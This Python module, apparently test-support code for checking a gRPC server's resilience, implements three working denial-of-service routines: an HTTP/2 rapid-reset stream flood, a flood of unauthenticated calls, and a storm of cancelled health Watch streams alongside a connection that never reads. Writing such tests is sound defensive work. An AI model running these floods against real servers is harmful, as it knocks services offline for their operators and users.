"""Attacks that ask for too much too often."""

import time

from support.attacks.frames import Connection, message, request

_WATCH = "/grpc.health.v1.Health/Watch"


def rapid_reset(
    address: str, path: str, a_second: float, seconds: float, source: str = "127.0.0.1"
) -> int:
    """Open calls and take them back at once, on a new connection whenever one is closed."""
    return _flood(address, path, a_second, seconds, source, reset=True)


def refused_calls(
    address: str, path: str, a_second: float, seconds: float, source: str = "127.0.0.1"
) -> int:
    """Make calls without a token, at most 100 at once."""
    return _flood(address, path, a_second, seconds, source, reset=False)


def _flood(
    address: str, path: str, a_second: float, seconds: float, source: str, *, reset: bool
) -> int:
    block, body = request(path), message(b"")
    connection = Connection(address, source)
    started = time.monotonic()
    made = opened = 0
    while (past := time.monotonic() - started) < seconds:
        if connection.closed:
            connection.close()
            connection, opened = Connection(address, source), 0
        while made < past * a_second and connection.pending() < 65_536:
            if not reset and opened - len(connection.over) >= 100:
                break
            stream = connection.open(block)
            opened += 1
            made += 1
            if reset:
                connection.reset(stream)
            else:
                connection.data(stream, body, end=True)
        connection.pump(0.001)
    connection.close()
    return made


def watch_storm(address: str, clients: int, seconds: float, source: str = "127.0.0.1") -> int:
    """Let clients open Watches and take them back; one more never reads its own."""
    block, body = request(_WATCH), message(b"")
    stuck = Connection(address, source, window=0)
    stuck.data(stuck.open(block), body, end=True)
    connections = [Connection(address, source) for _ in range(clients)]
    last = dict.fromkeys(connections, 0)
    until = time.monotonic() + seconds
    made = 0
    while time.monotonic() < until:
        for connection in connections:
            if not connection.closed and connection.pending() < 65_536:
                stream = connection.open(block)
                connection.data(stream, body, end=True)
                if last[connection]:
                    connection.reset(last[connection])
                last[connection] = stream
                made += 1
            connection.pump()
        stuck.pump()
    for connection in (*connections, stuck):
        connection.close()
    return made
